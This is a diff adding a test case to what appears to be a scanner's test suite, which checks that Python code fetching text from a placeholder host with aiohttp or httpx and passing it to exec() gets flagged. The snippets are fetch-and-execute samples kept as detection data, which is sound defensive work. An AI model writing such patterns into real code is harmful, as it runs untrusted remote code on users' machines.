@@ -93,6 +93,14 @@ const python: readonly Case[] = [
     'import openai, requests\ndef load(url):\n    page = requests.get("https://a.example")\n    requests.get(page.text)\n    exec(page.text)\n',
     ['fetched: exec(page.text) requests.get'],
   ],
+  [
+    'what one package has as a property and another as a method',
+    'import aiohttp, httpx, openai\nasync def load():\n    answer = await aiohttp.request("GET", "https://a.example")\n    exec(await answer.text())\n    exec(httpx.get("https://a.example").text.strip())\n    exec(httpx.get("https://a.example").status_code)\n',
+    [
+      'fetched: exec(await answer.text()) aiohttp.request',
+      'fetched: exec(httpx.get("https://a.example").text.strip()) httpx.get',
+    ],
+  ],
 ];
 
 const script: readonly Case[] = [
